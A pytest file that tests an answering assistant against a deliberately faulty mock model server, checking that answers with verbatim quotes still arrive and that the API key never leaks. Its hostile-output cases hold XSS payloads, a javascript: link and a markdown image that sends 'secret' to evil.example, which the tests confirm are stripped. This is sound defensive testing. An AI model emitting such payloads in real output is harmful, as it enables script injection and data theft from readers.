"""Written answers over a real connection: a server that does everything wrong, and every case ends in an answer."""

import asyncio
import itertools
import json
import time
from collections.abc import Iterator

import pytest

from assistant import Answer, Assistant
from assistant.settings import Settings
from assistant.web.briefing.note import briefing_html
from assistant.web.talk import asking, history
from tests.conftest import REPORT
from tests.modelserver import ModelServer, Script, Speaker, fails, model_server, piece, says, sends

QUESTION = "What did Beijing demand?"
TOPIC = "Beijing and the remark"
RIGHT = "Beijing demanded that the remark be retracted [1]."
KEY = "zz-Kp3vN8qLw5TtY2"
SILENCE_S = 0.5
LIMIT_S = 8.0  # for all of an answer, on a busy machine; without the bounds none of the cases would end


@pytest.fixture(scope="module")
def server() -> Iterator[ModelServer]:
    with model_server() as started:
        yield started


def settings_of(server: ModelServer, *, silence_s: float, total_s: float) -> Settings:
    return Settings(
        model="openai:test",
        model_base_url=server.url,
        model_api_key=KEY,  # type: ignore[arg-type]
        model_timeout_s=silence_s,
        model_total_s=total_s,
        model_reply_tokens=300,
        _env_file=None,  # type: ignore[call-arg]
    )


@pytest.fixture(scope="module")
def patient(server: ModelServer, assistant: Assistant) -> Iterator[Assistant]:
    """The same, for what is not of time: a busy machine answers late, and a late answer is asked for again."""
    with Assistant(home=assistant.home, settings=settings_of(server, silence_s=20.0, total_s=60.0)) as opened:
        yield opened


@pytest.fixture(scope="module")
def assistant(server: ModelServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Assistant]:
    home = tmp_path_factory.mktemp("wire") / "home"
    with Assistant(home=home, settings=settings_of(server, silence_s=SILENCE_S, total_s=2.0)) as opened:
        opened.add_text(REPORT, uri="report", title="A report", published="2025-11-21")
        server.play(says(RIGHT))
        # What is loaded once is loaded now; on a busy machine that takes longer than a first call may.
        for asks in (opened.ask, lambda question: asyncio.run(opened.aask(question))):
            assert any(asks(QUESTION).made_by.model == "openai:test" for _ in range(5))
        yield opened


def slow(speaker: Speaker) -> None:
    speaker.hang()


def slow_half_way(speaker: Speaker) -> None:
    speaker.head()
    speaker.word("Beijing demanded ")
    speaker.hang()


def comments(speaker: Speaker) -> None:
    speaker.head()
    while not speaker.server.over.wait(0.05):
        speaker.send(": still here\n\n")


def headers_byte_by_byte(speaker: Speaker) -> None:
    for byte in b"HTTP/1.1 200 OK\r\nX-Padding: " + b"x" * 10_000:
        speaker.wfile.write(bytes([byte]))
        speaker.wfile.flush()
        if speaker.server.over.wait(0.05):
            return


def endless(speaker: Speaker) -> None:
    speaker.head()
    numbers = itertools.count()
    while not speaker.server.over.is_set():
        speaker.word(f"Beijing demanded retraction number {next(numbers)} [1]. ")


def circling(speaker: Speaker) -> None:
    speaker.head()
    while not speaker.server.over.is_set():
        speaker.word("Beijing demanded a retraction [1]. ")


def endless_thinking(speaker: Speaker) -> None:
    speaker.head()
    while not speaker.server.over.wait(0.02):
        speaker.word("")


def endless_line(speaker: Speaker) -> None:
    speaker.head()
    speaker.send("data: ")
    while not speaker.server.over.is_set():
        speaker.send("x" * 100_000)


def endless_error(speaker: Speaker) -> None:
    speaker.head(500, "application/json")
    while not speaker.server.over.is_set():
        speaker.send("x" * 100_000)


def cut(speaker: Speaker) -> None:
    speaker.head()
    speaker.word("Beijing demanded that the remark be retracted [1]. Tokyo ")
    speaker.hang_up()


def cut_at_once(speaker: Speaker) -> None:
    speaker.hang_up()


def cut_without_length(speaker: Speaker) -> None:
    speaker.send_response(200)
    speaker.send_header("Content-Type", "text/event-stream")
    speaker.send_header("Connection", "close")
    speaker.end_headers()
    choice = {"index": 0, "delta": {"content": "Beijing demanded that the"}, "finish_reason": None}
    speaker.wfile.write(f"data: {json.dumps(piece(choices=[choice]))}\n\n".encode())


def html_page(speaker: Speaker) -> None:
    speaker.head(200, "text/html")
    speaker.send("<html><script>alert(1)</script><h1>Log in</h1></html>")
    speaker.wfile.write(b"0\r\n\r\n")


def no_http(speaker: Speaker) -> None:
    speaker.wfile.write(b"SSH-2.0-OpenSSH_9.6\r\n")


def bytes_that_are_no_text(speaker: Speaker) -> None:
    speaker.head()
    speaker.send(b'data: {"choices": [{"delta": {"content": "\xff\xfe\xfa"}}]}\n\n')
    speaker.stop()


def compressed_nonsense(speaker: Speaker) -> None:
    speaker.head(200, Content_Encoding="gzip")
    speaker.send(b"this is no gzip at all")
    speaker.wfile.write(b"0\r\n\r\n")


def redirects_for_ever(speaker: Speaker) -> None:
    speaker.head(307, Location=speaker.path)
    speaker.wfile.write(b"0\r\n\r\n")


FAILING: dict[str, tuple[Script, str]] = {
    "slow": (slow, "took too long"),
    "slow half way": (slow_half_way, "took too long"),
    "nothing but comments": (comments, "took too long"),
    "headers byte by byte": (headers_byte_by_byte, "took too long"),
    "endless": (endless, "did not come to an end"),
    "going round in circles": (circling, "the same again and again"),
    "endless thinking": (endless_thinking, "took too long"),
    "an endless line": (endless_line, ""),
    "an endless error": (endless_error, ""),
    "401": (fails(401, f"Incorrect API key provided: {KEY}", "invalid_api_key"), "does not take the key (401)"),
    "403": (fails(403, "<b>no</b>"), "does not take the key (403)"),
    "404": (fails(404, "The model `test` does not exist", "model_not_found"), "knows no language model"),
    "429 for an hour": (fails(429, "slow down", Retry_After="3600"), "Ask again in 3,600 seconds"),
    "429 used up": (fails(429, "x", "insufficient_quota"), "used up"),
    "500": (fails(500, "boom"), "failed (500)"),
    "400": (fails(400, f"bad {KEY} parameter"), "did not take the request (400"),
    "too long for ever": (fails(400, "This model's maximum context length is 4096 tokens."), "reads at once"),
    "cut": (cut, "broke off"),
    "cut at once": (cut_at_once, ""),
    "cut without length": (cut_without_length, ""),
    "garbage JSON": (sends("{not json", "at all"), "cannot be read"),
    "an HTML page": (html_page, ""),
    "no HTTP": (no_http, ""),
    "no text": (bytes_that_are_no_text, ""),
    "no gzip": (compressed_nonsense, ""),
    "redirects": (redirects_for_ever, ""),
    "an error in the stream": (sends({"error": {"message": f"out of memory {KEY}", "code": 500}}), ""),
    "empty choices": (sends(piece(choices=[]), piece(choices=[]), "[DONE]"), "wrote nothing"),
    "no events": (sends(), ""),
    "only the end": (sends("[DONE]"), ""),
    "choices of a wrong kind": (sends(piece(choices="none"), "[DONE]"), ""),
    "choices without delta": (sends(piece(choices=[{"index": 0}]), "[DONE]"), ""),
    "null": (sends("null", "[DONE]"), ""),
    "a number": (sends("17", "[DONE]"), ""),
    "a list": (sends([1, 2], "[DONE]"), ""),
    "content of a wrong kind": (sends(piece(choices=[{"index": 0, "delta": {"content": {"a": 1}}}]), "[DONE]"), ""),
    "deeply nested": (sends("[" * 20_000 + "]" * 20_000), ""),
    "an empty text": (says(""), "wrote nothing"),
}


def assert_answered(answer: object, assistant: Assistant) -> Answer:
    """Quotes, verbatim, and a note in which no key stands."""
    assert isinstance(answer, Answer)
    assert answer.status == "answered"
    assert answer.citations
    assert KEY not in repr(answer)
    for citation in answer.citations:
        assert assistant.source(citation.uri).text[citation.start : citation.end] == citation.quote
    return answer


@pytest.mark.parametrize("case", FAILING)
def test_whatever_the_server_does_the_answer_comes_in_time(
    case: str, server: ModelServer, assistant: Assistant, caplog: pytest.LogCaptureFixture
) -> None:
    script, note = FAILING[case]
    server.play(script)
    began = time.perf_counter()
    answer = assert_answered(assistant.ask(QUESTION), assistant)
    assert time.perf_counter() - began < LIMIT_S
    assert answer.made_by.model == "quotes"
    assert note in answer.note
    assert "quotes instead" in answer.note
    assert answer.usage.calls == len(server.asked) or case in ("redirects", "no HTTP", "cut at once")
    assert 1 <= answer.usage.calls <= 3
    assert KEY not in caplog.text


async def in_the_page(assistant: Assistant, question: str) -> str:
    """What the web page shows at the end."""
    warmth = asking.Warmth(assistant)
    states = [state async for state in asking.answering(assistant, question, [], warmth=warmth)]
    return history.shown_of(states[-1][-1])


PAGE = ["slow half way", "endless", "401", "cut", "cut without length", "garbage JSON", "empty choices", "an HTML page"]


def test_the_web_page_shows_an_answer_whatever_the_server_does(server: ModelServer, assistant: Assistant) -> None:
    async def all_cases() -> dict[str, str]:
        shown = {}
        for case in PAGE:
            server.play(FAILING[case][0])
            async with asyncio.timeout(LIMIT_S):
                shown[case] = await in_the_page(assistant, QUESTION)
        return shown

    for case, html in asyncio.run(all_cases()).items():
        assert '<article class="reply answered">' in html, case
        assert "retract the remark" in html, case
        assert "quotes instead" in html, case
        assert KEY not in html, case


HOSTILE = {
    "wrong citations": "Beijing demanded that the remark be retracted [9]. Tokyo refused to withdraw it [1][77].",
    "forged marks": "Beijing demanded that the remark be retracted [1](http://evil.example/x)【9】. [^1]: forged",
    "an image": "Beijing demanded that the remark be retracted [1]. ![x](http://evil.example/?q=secret)",
    "a link": "Beijing demanded that the remark be retracted [1]. See [this](javascript:alert(1)).",
    "HTML": "<img src=x onerror=alert(1)><script>alert(1)</script>Beijing demanded that the remark be retracted [1].",
    "half a character": "Beijing demanded that the remark be retracted [1]. \ud83d",
}


@pytest.mark.parametrize("case", HOSTILE)
def test_what_the_model_writes_is_text_and_its_marks_lead_to_quotes(
    case: str, server: ModelServer, assistant: Assistant
) -> None:
    server.play(says(*(HOSTILE[case][at : at + 5] for at in range(0, len(HOSTILE[case]), 5))))
    answer = assert_answered(assistant.ask(QUESTION), assistant)
    assert json.dumps(answer.text).isascii()
    answer.text.encode("utf-8")
    numbers = {citation.number for citation in answer.citations}
    assert {citation.number for sentence in answer.sentences for citation in sentence.citations} == numbers
    html = asyncio.run(in_the_page(assistant, QUESTION))
    for forbidden in ("<img", "<script", 'href="http', 'href="javascript', "src="):
        assert forbidden not in html
    shown = html.partition('<details class="usage">')[0]  # below, it is told which marks were taken away
    assert "[9]" not in shown
    assert "[77]" not in shown


def test_a_plain_question_is_one_call_and_what_it_costs_is_told(server: ModelServer, patient: Assistant) -> None:
    server.play(says("Beijing demanded that the remark ", "be retracted [1].", usage=(321, 12)))
    answer = patient.ask(QUESTION)
    assert (answer.made_by.model, answer.note) == ("openai:test", "")
    (body,) = server.asked
    assert body["stream"] is True
    assert server.keys == [f"Bearer {KEY}"]
    used = answer.usage
    assert (used.model, used.calls, used.tokens_in, used.tokens_out) == ("openai:test", 1, 321, 12)
    assert used.first_token_s is not None
    assert 0 < used.first_token_s <= used.total_s
    assert 0 < used.model_s <= used.total_s


@pytest.mark.parametrize("case", ["slow half way", "401", "500", "cut", "garbage JSON", "an empty text"])
def test_whatever_the_server_does_a_briefing_is_made(case: str, server: ModelServer, assistant: Assistant) -> None:
    quoted = assistant.brief(TOPIC, template="short", keep=False, model="quotes")
    script, note = FAILING[case]
    server.play(script)
    briefing = assistant.brief(TOPIC, template="short", keep=False)
    assert briefing.lines == quoted.lines != ()
    assert (briefing.made.written_by, briefing.made.written) == ("quotes", ())
    told = " ".join((briefing.note, *(note for section in briefing.sections for note in section.notes)))
    assert note in told
    assert "quotes instead" in told
    assert 1 <= briefing.usage.calls == len(server.asked) <= 3
    assert KEY not in repr(briefing)


SLOPPY = {
    "fullwidth marks": "Beijing demanded that the remark be retracted【1】",
    "a mark in front": "[1] Beijing demanded that the remark be retracted.",
    "a mark with a word": "Beijing demanded that the remark be retracted (source 1).",
    "no mark": "Beijing demanded that the remark be retracted.",
    "a heading and a list": "## Bottom line\n\n- **Beijing demanded that the remark be retracted** [1].\n",
    "a list of sources": "Beijing demanded that the remark be retracted [1].\n\nSources:\n[1] A report, 2025\n",
    "thinking aloud": "<think>Which passage?</think>Beijing demanded that the remark be retracted [1].",
}


def test_a_written_briefing_is_lines_with_quotes_however_it_is_marked(server: ModelServer, patient: Assistant) -> None:
    for case, text in (SLOPPY | HOSTILE).items():
        server.play(says(*(text[at : at + 7] for at in range(0, len(text), 7))))
        briefing = patient.brief(TOPIC, sections=["bottom line"], keep=False)
        assert briefing.lines, case
        for line in briefing.lines:
            assert line.citations, case
            for one in line.citations:
                assert patient.source(one.uri).text[one.start : one.end] == one.quote != "", case
        assert (
            case not in SLOPPY or briefing.lines[0].text.strip(".") == "Beijing demanded that the remark be retracted"
        ), case
        html = briefing_html(briefing)
        for forbidden in ("<img", "<script", 'href="http', 'href="javascript', "src=", "Sources:", "Which passage"):
            assert forbidden not in html, case


def test_what_a_written_briefing_costs_is_told(server: ModelServer, patient: Assistant) -> None:
    server.play(says(RIGHT, usage=(300, 20)))
    briefing = patient.brief(TOPIC, sections=["bottom line"], keep=False)
    assert [line.text for line in briefing.lines] == [RIGHT.replace(" [1]", "")]
    assert (briefing.made.written_by, briefing.made.written) == ("openai:test", ("bottom line",))
    assert (briefing.usage.calls, briefing.usage.tokens_in, briefing.usage.tokens_out) == (1, 300, 20)
    assert briefing.usage.first_token_s is not None
    assert len(server.asked) == 1


def test_a_question_without_an_answer_is_no_call(server: ModelServer, assistant: Assistant) -> None:
    server.play(says(RIGHT))
    assert assistant.ask("Who won the football cup in 1998?").usage.calls == 0
    assert server.asked == []


@pytest.mark.parametrize(
    "first",
    [fails(429, "slow down", Retry_After="0.1"), fails(503, "warming up"), cut_at_once],
    ids=["429", "503", "cut at once"],
)
def test_a_busy_server_is_asked_again_and_the_call_is_counted(
    first: Script, server: ModelServer, patient: Assistant
) -> None:
    server.play(first, says(RIGHT))
    answer = patient.ask(QUESTION)
    assert (answer.made_by.model, answer.usage.calls, len(server.asked)) == ("openai:test", 2, 2)


def test_a_prompt_that_is_too_long_is_sent_again_with_fewer_passages(server: ModelServer, patient: Assistant) -> None:
    filler = [{"text": REPORT * 4, "uri": f"filler-{number}", "title": "More"} for number in range(3)]
    patient.add_texts(filler)
    try:
        server.play(fails(400, "This model's maximum context length is 1500 tokens."), says(RIGHT))
        answer = patient.ask(QUESTION)
    finally:
        patient.remove([item["uri"] for item in filler])
    assert (answer.made_by.model, answer.usage.calls) == ("openai:test", 2)
    first, second = (len(json.dumps(body)) for body in server.asked)
    assert second < first


def test_a_temperature_that_is_refused_is_left_out(server: ModelServer, patient: Assistant) -> None:
    said = "Unsupported value: 'temperature' does not support 0 with this model."

    async def asked() -> Answer:
        return await patient.aask(QUESTION)

    for ask in (lambda: patient.ask(QUESTION), lambda: asyncio.run(asked())):
        server.play(fails(400, said, "unsupported_value"), says(RIGHT))
        answer = ask()
        assert (answer.made_by.model, answer.note) == ("openai:test", "")
        assert ["temperature" in body for body in server.asked] == [True, False]


def test_closing_a_stream_hangs_up(server: ModelServer, assistant: Assistant) -> None:
    def first_words(speaker: Speaker) -> None:
        speaker.head()
        speaker.word(f"{RIGHT} Takaichi refused to withdraw the remark [1]. {RIGHT} {RIGHT} And ")
        speaker.hang()

    server.play(first_words)
    stream = assistant.stream(QUESTION)
    assert "retracted" in str(next(stream))
    stream.close()  # type: ignore[attr-defined]
    assert server.hung_up.get(timeout=LIMIT_S)

    async def leave() -> None:
        task = asyncio.create_task(assistant.aask(QUESTION))
        while not server.asked:
            await asyncio.sleep(0.01)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    server.play(slow)
    asyncio.run(leave())
    assert server.hung_up.get(timeout=LIMIT_S)

    async def close() -> None:
        stream = assistant.astream(QUESTION)
        assert "retracted" in str(await anext(stream))
        await stream.aclose()

    server.play(first_words)
    asyncio.run(close())
    assert server.hung_up.get(timeout=LIMIT_S)


def test_questions_may_be_asked_in_one_event_loop_after_the_other(server: ModelServer, assistant: Assistant) -> None:
    for _ in range(3):
        server.play(says(RIGHT))
        assert asyncio.run(assistant.aask(QUESTION)).made_by.model == "openai:test"


def test_several_questions_at_once_each_get_their_own_answer(server: ModelServer, assistant: Assistant) -> None:
    async def all_at_once() -> list[Answer]:
        return await asyncio.gather(*(assistant.aask(QUESTION) for _ in range(5)))

    server.play(says(RIGHT))
    assert [answer.usage.calls for answer in asyncio.run(all_at_once())] == [1] * 5


def test_half_a_character_in_a_question_is_sent_as_a_sign_of_it(server: ModelServer, assistant: Assistant) -> None:
    server.play(says(RIGHT))
    assert assistant.ask(f"{QUESTION} \ud83d").usage.calls <= 1


def test_a_server_that_is_not_there_is_told_at_once(assistant: Assistant) -> None:
    with model_server() as gone:
        address = gone.url
    settings = assistant.settings.model_copy(update={"model_base_url": address})
    with Assistant(settings=settings) as other:
        answer = other.ask(QUESTION)
    assert "cannot be reached" in answer.note
    assert answer.usage.calls == 1
